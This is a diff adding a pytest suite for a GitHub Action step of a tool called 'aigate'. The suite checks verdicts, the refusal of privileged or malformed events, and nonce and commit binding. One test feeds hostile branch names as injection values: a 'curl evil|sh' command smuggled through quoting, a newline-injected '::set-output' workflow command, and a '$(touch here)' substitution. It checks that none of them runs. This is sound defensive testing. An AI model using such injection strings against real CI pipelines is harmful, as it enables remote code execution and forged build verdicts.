@@ -1,0 +1,207 @@
+"""What the steps of the GitHub Action do with an event, without a runner around them."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+
+BAD = 'x = "\u202e abc"\n'
+ZERO = "0" * 40
+
+
+@pytest.fixture
+def job(project, tmp_path):
+    """A change that blocks on `topic`, a calm one on `calm`, and a job that can look at both."""
+    project.commit({"README.md": "hello\n"})
+    project.git("update-ref", "refs/remotes/origin/main", "main")
+    main = project.git("rev-parse", "main")
+    project.commit({"a.txt": BAD}, branch="topic", parents=[main])
+    project.commit({"b.txt": "calm\n"}, branch="calm", parents=[main])
+    files = {name: tmp_path / name for name in ("event.json", "output", "summary")}
+    temp = tmp_path / "temp"
+    temp.mkdir()
+
+    def run(event, payload, commit, **environ):
+        files["event.json"].write_bytes(
+            payload if isinstance(payload, bytes) else json.dumps(payload).encode()
+        )
+        files["output"].write_text("")
+        files["summary"].write_text("")
+        given = {
+            "GITHUB_EVENT_NAME": event,
+            "GITHUB_EVENT_PATH": str(files["event.json"]),
+            "GITHUB_SHA": commit,
+            "GITHUB_OUTPUT": str(files["output"]),
+            "GITHUB_STEP_SUMMARY": str(files["summary"]),
+            "RUNNER_TEMP": str(temp),
+            **environ,
+        }
+        seen = project.run("github-action", "run", **given)
+        lines = files["output"].read_text().splitlines()
+        outputs = dict(line.split("=", 1) for line in lines)
+        assert len(outputs) == len(lines)
+        return seen, outputs, given
+
+    def conclude(outputs, given, *, outcome, **environ):
+        passed = {
+            "AIGATE_DECISION": outputs.get("decision-file", ""),
+            "AIGATE_NONCE": outputs.get("nonce", ""),
+            "AIGATE_OUTCOME": outcome,
+        }
+        return project.run("github-action", "conclude", **(given | passed | environ))
+
+    return SimpleNamespace(run=run, conclude=conclude, project=project, main=main, files=files)
+
+
+def pull_request(base="main"):
+    return {"pull_request": {"base": {"ref": base}}, "repository": {"default_branch": "main"}}
+
+
+def test_a_pull_request_that_blocks_leaves_everything_and_fails(job):
+    head = job.project.git("rev-parse", "topic")
+    seen, outputs, given = job.run("pull_request", pull_request(), head)
+
+    assert seen.code == 1
+    assert seen.out.startswith(b"::error file=a.txt,line=1,")
+    assert outputs["verdict"] == "fail"
+    assert outputs["blocking-count"] == "1"
+    assert job.files["summary"].read_text().startswith("## aigate: fail\n")
+    report = json.loads(Path(outputs["report-file"]).read_bytes())
+    assert outputs["findings-count"] == str(report["summary"]["findings"])
+    assert json.loads(Path(outputs["sarif-file"]).read_bytes())["version"] == "2.1.0"
+    assert job.conclude(outputs, given, outcome="failure").code == 1
+
+
+def test_a_calm_pull_request_passes(job):
+    head = job.project.git("rev-parse", "calm")
+    seen, outputs, given = job.run("pull_request", pull_request(), head)
+
+    assert (seen.code, outputs["verdict"]) == (0, "pass")
+    assert job.conclude(outputs, given, outcome="success").code == 0
+
+
+def test_a_merge_group_is_compared_with_what_it_was_built_on(job):
+    built_on = job.project.git("rev-parse", "topic")
+    head = job.project.commit({"c.txt": "calm\n"}, branch="group", parents=[built_on])
+    payload = {"merge_group": {"base_sha": built_on, "base_ref": "refs/heads/main"}}
+    seen, outputs, given = job.run("merge_group", payload, head)
+
+    assert (seen.code, outputs["verdict"]) == (0, "pass")
+    assert job.conclude(outputs, given, outcome="success").code == 0
+
+
+def test_a_push_is_compared_with_what_was_there(job):
+    head = job.project.git("rev-parse", "topic")
+    payload = {"before": job.main, "after": head, "ref": "refs/heads/main"}
+
+    assert job.run("push", payload, head)[0].code == 1
+
+
+def test_a_schedule_judges_the_whole_tree(job):
+    head = job.project.git("rev-parse", "topic")
+    seen, outputs, _ = job.run("schedule", {}, head)
+
+    assert (seen.code, outputs["verdict"]) == (1, "fail")
+
+
+def test_a_branch_that_nobody_protects_is_no_base(job):
+    """The decoy has the finding already; against it the change would be calm."""
+    decoy = job.project.git("rev-parse", "topic")
+    job.project.git("update-ref", "refs/remotes/origin/decoy", decoy)
+    head = job.project.commit({"c.txt": "calm\n"}, branch="on-decoy", parents=[decoy])
+
+    assert job.run("pull_request", pull_request("decoy"), head)[0].code == 1
+
+
+REFUSED = {
+    "C-062-privileged": ("pull_request_target", pull_request(), 2),
+    "C-069-no-base": ("pull_request", {}, 3),
+    "C-069-no-json": ("pull_request", b"{", 3),
+    "C-069-no-such-branch": (
+        "pull_request",
+        pull_request("gone") | {"repository": {"default_branch": "gone"}},
+        3,
+    ),
+    "C-069-event": ("release", {}, 2),
+}
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_what_cannot_be_judged_is_no_pass(job, name):
+    event, payload, code = REFUSED[name]
+    seen, outputs, given = job.run(event, payload, job.main)
+
+    assert seen.code == code
+    assert "verdict" not in outputs
+    lines = seen.out.decode().splitlines()
+    assert [line for line in lines if line.startswith("::")] == lines[:1]
+    assert lines[0].startswith("::error title=aigate (")
+    assert job.conclude(outputs, given, outcome="failure").code == 3
+
+
+@pytest.mark.parametrize(
+    "branch",
+    ['x";curl${IFS}evil|sh;"', "x\n::set-output name=verdict::pass", "$(touch here)"],
+    ids=["C-063-quote", "C-063-newline", "C-063-command"],
+)
+def test_a_hostile_name_of_a_base_is_a_branch_that_nobody_protects(job, branch):
+    head = job.project.git("rev-parse", "topic")
+    seen, outputs, _ = job.run("pull_request", pull_request(branch), head)
+
+    assert (seen.code, outputs["verdict"]) == (1, "fail")
+    assert not [line for line in seen.out.splitlines() if line.startswith(b"::set-output")]
+    assert not list(job.project.root.rglob("here"))
+
+
+def test_c_069_without_a_payload_nothing_is_judged(job):
+    seen, _, _ = job.run("pull_request", {}, job.main, GITHUB_EVENT_PATH="/nowhere")
+
+    assert seen.code == 3
+
+
+NO_PASS = {
+    "C-070-cancelled": ({"AIGATE_OUTCOME": "cancelled"}, 3),
+    "C-072-skipped": ({"AIGATE_OUTCOME": "skipped"}, 3),
+    "C-072-failed": ({"AIGATE_OUTCOME": "failure"}, 3),
+    "C-072-no-outcome": ({"AIGATE_OUTCOME": ""}, 3),
+    "C-070-no-decision": ({"AIGATE_DECISION": ""}, 3),
+    "C-070-decision-gone": ({"AIGATE_DECISION": "/nowhere/decision.json"}, 3),
+    "no-nonce": ({"AIGATE_NONCE": ""}, 3),
+    "other-nonce": ({"AIGATE_NONCE": "0" * 32}, 4),
+    "other-commit": ({"GITHUB_SHA": ZERO}, 4),
+}
+
+
+@pytest.mark.parametrize("name", NO_PASS)
+def test_the_last_word_is_a_pass_only_for_a_fresh_pass_about_this(job, name):
+    environ, code = NO_PASS[name]
+    head = job.project.git("rev-parse", "calm")
+    _, outputs, given = job.run("pull_request", pull_request(), head)
+
+    assert job.conclude(outputs, given, outcome="success", **environ).code == code
+
+
+def test_c_066_without_a_place_for_the_summary_the_verdict_stands(job):
+    head = job.project.git("rev-parse", "calm")
+    seen, outputs, _ = job.run(
+        "pull_request", pull_request(), head, GITHUB_STEP_SUMMARY="/nowhere/summary"
+    )
+
+    assert (seen.code, outputs["verdict"]) == (0, "pass")
+    assert b"::warning title=aigate::the summary cannot be written" in seen.out
+
+
+def test_inputs_count_more_than_the_event(job):
+    head = job.project.git("rev-parse", "topic")
+    seen, _, _ = job.run("release", {}, head, AIGATE_BASE="origin/main")
+
+    assert seen.code == 1
+
+
+def test_an_input_is_never_an_option(job):
+    seen, _, _ = job.run("pull_request", pull_request(), job.main, AIGATE_BASE="--output=json=x")
+
+    assert seen.code == 2
